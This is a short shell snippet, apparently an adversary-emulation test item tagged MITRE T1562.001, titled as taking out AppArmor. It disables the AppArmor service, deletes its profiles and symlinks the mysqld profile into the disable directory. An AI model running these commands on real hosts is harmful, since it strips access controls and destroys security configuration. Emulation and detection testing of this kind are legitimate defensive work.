# title: AppArmor is taken out
# technique: T1562.001

systemctl disable --now apparmor 2>/dev/null
rm -f /etc/apparmor.d/usr.*; mkdir -p /etc/apparmor.d/disable; ln -s /etc/apparmor.d/usr.sbin.mysqld /etc/apparmor.d/disable/
